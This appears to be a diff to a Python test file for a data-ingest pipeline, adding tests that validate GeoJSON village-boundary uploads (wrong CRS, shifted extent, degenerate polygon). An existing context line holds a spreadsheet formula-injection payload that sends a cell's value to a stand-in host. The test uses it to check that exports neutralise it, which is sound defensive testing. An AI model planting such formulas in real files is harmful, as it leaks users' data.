@@ -6,11 +6,14 @@ with a live formula."""
 from __future__ import annotations
 
 import io
+import json
 import zipfile
 
 import openpyxl
 import pandas as pd
 import pytest
+import shapely
+import shapely.affinity
 
 from analytics.ingest import isolation
 from analytics.ingest import pipeline as ingest
@@ -163,3 +166,43 @@ def test_an_export_writes_formula_payloads_as_quoted_text_and_drops_what_excel_c
     assert cells['=HYPERLINK("http://x/?"&A1,"点我")'].quotePrefix and cells["+1"].quotePrefix
     assert "ab" in cells and not cells["普通"].quotePrefix
     assert ws["B5"].value == "=**1" and ws["B5"].data_type == "s"  # masked, and still text
+
+
+# --- boundaries ------------------------------------------------------------------------------
+def _boundaries_geojson(frame, crs: str | None) -> bytes:
+    doc = json.loads(frame.to_json())
+    doc.pop("crs", None)
+    if crs:
+        doc["crs"] = {"type": "name", "properties": {"name": crs}}
+    return json.dumps(doc).encode()
+
+
+def test_degree_coordinates_declared_as_epsg_3857_are_refused(tmp_path, demo_tables, demo_store):
+    data = _boundaries_geojson(demo_tables["boundaries"], "EPSG:3857")  # degrees, said to be metres
+    checked = check(tmp_path, {"村界.geojson": data}, demo_store)
+    problem = one(checked, "换算后不在中国境内")
+    assert problem["file"] == "村界.geojson" and "EPSG:3857" in problem["reason"]
+    n = len(demo_tables["boundaries"])
+    assert problem["reason"].startswith(f"{n:,} / {n:,} 个村界")
+    assert not checked.ok
+
+
+def test_boundaries_shifted_ten_degrees_east_get_a_warning(tmp_path, demo_tables, demo_store):
+    shifted = demo_tables["boundaries"].copy()
+    shifted = shifted.set_geometry(shifted.geometry.translate(xoff=10))
+    checked = check(tmp_path, {"村界.geojson": _boundaries_geojson(shifted, None)}, demo_store,
+                    ingest.Options(crs="wgs84"))
+    problem = one(checked, "新村界的范围与当前村界只重合 0%", level="警告")
+    assert problem["file"] == "村界.geojson"
+    assert checked.ok  # a warning: the operator may be replacing the county's boundaries on purpose
+
+
+def test_a_degenerate_polygon_is_an_error_naming_the_feature(tmp_path, demo_tables, demo_store):
+    frame = demo_tables["boundaries"].copy()
+    first = frame.geometry.iloc[2]
+    frame.loc[frame.index[2], "geometry"] = shapely.affinity.scale(first, 1e-5, 1e-5)
+    checked = check(tmp_path, {"村界.geojson": _boundaries_geojson(frame, None)}, demo_store,
+                    ingest.Options(crs="wgs84"))
+    problem = one(checked, "面积几乎为零")
+    assert problem["row"] == 3 and problem["file"] == "村界.geojson"
+    assert not checked.ok
